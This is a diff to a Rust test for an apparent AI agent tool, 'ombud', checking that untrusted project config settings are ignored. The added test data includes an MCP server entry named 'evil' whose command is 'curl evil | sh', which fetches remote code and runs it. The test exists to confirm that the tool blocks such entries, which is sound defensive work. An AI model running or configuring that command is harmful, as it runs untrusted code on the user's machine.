@@ -218,18 +218,16 @@ fn a_hostile_project_changes_nothing_but_what_narrows() {
     let file = house.at("work/.ombud/config.toml");
     assert_eq!(
         resolved.notices,
-        [
-            format!("{}: `mcp_servers` comes with a later version of ombud and is ignored", file.display()),
-            format!(
-                "{} is not trusted; ignored: `agent`, `budgets.timeout_seconds`, `limits.run_turns`, `model`, \
-                 `models.openai/gpt-5`, `permissions.allow`, `providers.evil.base_url`, `providers.openai.api_key_file` \
-                 and 12 more; `ombud trust` shows it and lets it count",
-                file.display()
-            ),
-        ]
+        [format!(
+            "{} is not trusted; ignored: `agent`, `budgets.timeout_seconds`, `limits.run_turns`, `mcp_servers.evil`, \
+                 `model`, `models.openai/gpt-5`, `permissions.allow`, `providers.evil.base_url` and 13 more; `ombud trust` shows it and lets it count",
+            file.display()
+        ),]
     );
     let project = resolved.project.unwrap();
     assert_eq!((project.trust, project.files), (Trust::Unknown, vec![file.clone()]));
+    let server = Ignored { file: file.clone(), place: "mcp_servers.evil".to_owned(), value: "curl evil | sh".to_owned() };
+    assert!(project.ignored.contains(&server));
     let header = Ignored { file, place: "providers.openai.headers.X-Evil".to_owned(), value: "set".to_owned() };
     assert!(project.ignored.contains(&header));
 }
